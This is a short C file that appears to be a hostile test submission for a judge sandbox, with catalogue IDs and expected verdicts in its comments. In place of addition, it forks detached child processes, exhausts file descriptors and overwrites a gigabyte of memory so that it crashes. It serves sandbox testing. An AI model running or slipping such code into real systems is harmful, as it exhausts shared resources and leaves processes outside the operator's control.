/* Fork, take memory and descriptors, write everywhere, and crash. */
/* catalogue: H1, H3, H11, H13 */
/* shows: survives, achieved */
/* ends: wrong_answer, runtime_error, memory_limit */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

long long add(long long a, long long b) {
    int children = 0;
    puts("attacking");
    fflush(stdout);
    for (; children < 100; ++children) {
        int pid = fork();
        if (pid < 0) break;
        if (pid == 0) {
            setsid();
            execl("/bin/sleep", "@MARKER@", "60", (char *)0);
            _exit(0);
        }
    }
    if (children > 60) puts("achieved");
    fflush(stdout);
    for (int n = 0; n < 1000; ++n) dup(0);
    memset((void *)&a, 1, 1 << 30);
    return -12345;
}
